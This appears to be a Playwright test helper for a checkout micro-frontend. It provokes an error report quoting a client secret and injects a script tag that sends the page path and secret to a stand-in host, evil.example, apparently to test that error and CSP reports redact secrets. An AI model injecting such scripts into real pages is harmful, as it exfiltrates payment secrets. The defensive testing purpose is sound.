import type { Page } from '@playwright/test';

/** Has the checkout's page say of itself what it would say on its worst day: an error that quotes its address and this secret, and a refused script. */
export const provokeReports = (page: Page, secret: string): Promise<void> =>
  page.evaluate((secret) => {
    const files = performance.getEntriesByType('resource').map(({ name }) => name);
    const file = files.find((name) => name.includes('/remotes/mf-checkout/'));
    const error = new Error(`Lost at ${window.location.href}?client_secret=${secret}`);
    error.stack = `Error: ${error.message}\n    at open (${file}:1:1)`;
    window.dispatchEvent(new ErrorEvent('error', { error }));
    const script = document.createElement('script');
    script.src = `https://evil.example${window.location.pathname}?${secret}`;
    document.body.append(script);
  }, secret);
